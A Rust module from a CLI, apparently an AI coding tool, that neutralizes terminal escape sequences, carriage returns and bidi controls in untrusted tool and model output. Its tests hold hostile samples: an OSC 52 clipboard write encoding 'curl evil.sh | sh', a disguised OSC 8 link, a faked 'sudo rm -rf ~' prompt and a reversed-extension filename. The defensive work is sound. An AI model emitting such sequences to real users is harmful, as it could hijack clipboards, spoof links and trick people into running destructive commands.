//! Text from the services, the model and MCP servers is untrusted: a
//! terminal obeys control characters wherever they come from. An escape
//! sequence in a tool result could write the clipboard (OSC 52), disguise a
//! link (OSC 8), move the cursor or clear lines; a carriage return could
//! overwrite a line with a faked prompt; bidirectional overrides could
//! reorder what is read. Everything the CLI prints passes through here at the
//! one place it is written.
//!
//! Kept: printable text, `\n`, `\t`, and colour or weight changes (SGR,
//! `ESC [ … m` with the parameters the CLI's own styling uses), which can
//! neither move the cursor, hide text nor reach outside the terminal. Every
//! other control character (C0, DEL, C1, bidi controls) is printed as its
//! visible escape (`\u{1b}`), so an attempt shows instead of acting.

use std::borrow::Cow;

const ESC: char = '\u{1b}';

/// `text` made safe to write to a terminal.
pub fn for_terminal(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_care) {
        return Cow::Borrowed(text);
    }
    let mut safe = String::with_capacity(text.len() + 16);
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        let width = c.len_utf8();
        if c == ESC
            && let Some(length) = styling_length(rest)
        {
            safe.push_str(&rest[..length]);
            rest = &rest[length..];
            continue;
        }
        if c == '\r' && rest[width..].starts_with('\n') {
            // A Windows line end is a line end, not a return to column 0.
        } else if is_unsafe(c) {
            safe.extend(c.escape_unicode());
        } else {
            safe.push(c);
        }
        rest = &rest[width..];
    }
    Cow::Owned(safe)
}

/// Serialized JSON made safe to write to a terminal without changing its
/// value: the characters JSON may carry raw (DEL, C1, bidi controls) become
/// `\uXXXX` escapes. JSON escapes the C0 controls itself.
pub fn json_for_terminal(json: &str) -> Cow<'_, str> {
    if !json.chars().any(is_unsafe) {
        return Cow::Borrowed(json);
    }
    let mut safe = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if is_unsafe(c) {
            // Every such character is in the Basic Multilingual Plane.
            safe.push_str(&format!("\\u{:04x}", u32::from(c)));
        } else {
            safe.push(c);
        }
    }
    Cow::Owned(safe)
}

fn needs_care(c: char) -> bool {
    c == ESC || is_unsafe(c)
}

/// A character a terminal may act on rather than show.
fn is_unsafe(c: char) -> bool {
    matches!(c,
        '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// The length of the colour change `ESC [ params m` that `text` starts with,
/// when every parameter is one the CLI's styling uses (reset, bold, dim,
/// italic, underline, their resets, the 16 foreground colours).
fn styling_length(text: &str) -> Option<usize> {
    let body = text.strip_prefix("\u{1b}[")?;
    let end = body.find(|c: char| !(c.is_ascii_digit() || c == ';'))?;
    if !body[end..].starts_with('m') {
        return None;
    }
    let params = &body[..end];
    let allowed = params.is_empty()
        || params.split(';').all(|p| {
            matches!(
                p.parse::<u8>(),
                Ok(0..=4 | 22..=24 | 30..=37 | 39 | 90..=97)
            )
        });
    allowed.then_some(2 + end + 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_clipboard_write_is_shown_not_obeyed() {
        let osc52 = "ok\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}done";
        let safe = for_terminal(osc52);
        assert!(!safe.contains(ESC) && !safe.contains('\u{7}'), "{safe}");
        assert_eq!(safe, "ok\\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}done");
    }

    #[test]
    fn a_disguised_link_and_cursor_moves_are_shown_not_obeyed() {
        for hostile in [
            "\u{1b}]8;;https://evil.example\u{1b}\\https://docs.example\u{1b}]8;;\u{1b}\\",
            "line\u{1b}[1A\u{1b}[2Kreplaced",
            "\u{1b}[8mhidden\u{1b}[0m",
            "\u{1b}[38;2;0;0;0mblack\u{1b}[m",
            "\u{9b}31m c1",
        ] {
            let safe = for_terminal(hostile);
            assert!(!safe.contains('\u{9b}'), "{hostile:?} → {safe:?}");
            // An escape left in place starts a permitted colour change.
            for (at, _) in safe.match_indices(ESC) {
                assert!(
                    styling_length(&safe[at..]).is_some(),
                    "{hostile:?} → {safe:?}"
                );
            }
            assert!(!safe.contains("\u{1b}[8m") && !safe.contains("\u{1b}[38;"));
        }
    }

    #[test]
    fn a_carriage_return_cannot_fake_a_prompt() {
        let faked = "result\r\u{1b}[2Kyou> sudo rm -rf ~";
        let safe = for_terminal(faked);
        assert!(!safe.contains('\r') && !safe.contains(ESC), "{safe:?}");
        assert!(safe.starts_with("result\\u{d}"), "{safe:?}");
        assert_eq!(for_terminal("a\r\nb"), "a\nb");
    }

    #[test]
    fn bidi_overrides_are_shown() {
        let safe = for_terminal("file\u{202e}txt.exe\u{2066}");
        assert_eq!(safe, "file\\u{202e}txt.exe\\u{2066}");
    }

    #[test]
    fn text_lines_tabs_and_the_clis_own_colours_pass() {
        for kept in [
            "plain text, ünïcödé, emoji 🔑\n\tindented",
            "\u{1b}[32m\u{1b}[1m✓\u{1b}[0m tool → 42",
            "\u{1b}[33;1m!\u{1b}[m note",
        ] {
            assert_eq!(for_terminal(kept), kept);
        }
    }

    #[test]
    fn json_keeps_its_value_and_loses_its_controls() {
        let value =
            serde_json::json!({"text": "a\u{9b}31m\u{202e}b\u{7f}", "esc": "\u{1b}]52;c;x\u{7}"});
        let json = value.to_string();
        let safe = json_for_terminal(&json);
        assert!(!safe.chars().any(needs_care), "{safe}");
        let back: serde_json::Value = serde_json::from_str(&safe).expect("still JSON");
        assert_eq!(back, value);
    }
}
